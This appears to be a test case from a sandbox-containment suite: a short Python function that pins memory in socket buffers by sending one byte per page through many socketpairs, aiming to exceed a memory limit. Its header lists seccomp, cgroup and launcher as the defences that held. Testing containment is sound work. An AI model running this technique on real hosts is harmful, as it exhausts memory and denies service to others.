# Leaves a byte of each of many pages unread in sockets, which then have the pages.
# group: limits
# held: seccomp cgroup launcher
# cell: small
import os
import socket
def attack(lure):
    file = os.open("/tmp/pages", os.O_RDWR | os.O_CREAT, 0o600)
    os.unlink("/tmp/pages")
    kept, pages = [], 0
    while pages << 12 < lure["memory"] + (64 << 20):
        kept.extend(socket.socketpair())
        for end in kept[-2:]:
            end.setblocking(False)
            os.truncate(file, 0)
            os.pwrite(file, bytes(1 << 20), 0)
            try:
                for page in range(256):
                    os.sendfile(end.fileno(), file, 4096 * page, 1)
                    pages += 1
            except BlockingIOError:
                pass
    return f"{pages} pages wait in sockets"
